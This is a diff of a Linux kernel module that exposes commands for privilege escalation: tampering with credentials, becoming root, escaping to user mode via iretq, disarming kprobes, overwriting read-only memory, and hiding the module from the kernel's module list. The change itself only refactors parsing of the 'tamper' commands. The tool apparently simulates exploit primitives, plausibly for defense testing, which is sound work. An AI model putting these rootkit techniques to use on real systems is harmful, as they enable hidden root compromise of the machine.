@@ -7,7 +7,7 @@
  *   disarm GET_KPROBE ADDRESS     disarm the kprobe at an address, whoever's it is
  *   write ADDRESS BYTES           overwrite up to 16 bytes, also of read-only data
  *   hide list, hide kset          take this module off the kernel's list of modules, or off the set of their objects
- *   tamper users, tamper pointer  become root, for good, by a write to the credentials, or by other ones
+ *   tamper WHAT                   change what the process may do, for good; see tamper_with()
  *   root INIT_TASK                become root, for good, as exploits do
  *   escape INIT_TASK CODE STACK   the same, and go on at CODE in user mode by an iretq: the write() does not return
  *   hijack SHAPE INIT_TASK INIT_CRED ENTRY MEMORY CODE STACK
@@ -117,17 +117,14 @@ static int escalate(char *command)
 {
 	unsigned long init_task, code, stack;
 	bool escape = sscanf(command, "escape %lx %lx %lx", &init_task, &code, &stack) == 3;
-	bool users = !strcmp(command, "tamper users"), pointer = !strcmp(command, "tamper pointer");
 	bool known = escape || sscanf(command, "root %lx", &init_task) == 1;
-	int error;
+	int error = -EINVAL;
 
+	if (!strncmp(command, "tamper ", 7))
+		error = tamper_with(command + 7);
 	kfree(command);
-	if (users)
-		tamper_with_users();
-	if (users || pointer)
-		return users ? 0 : tamper_with_pointer();
 	if (!known)
-		return -EINVAL;
+		return error;
 	error = become_root(init_task);
 	if (!error && escape)
 		leave_kernel(code, stack);
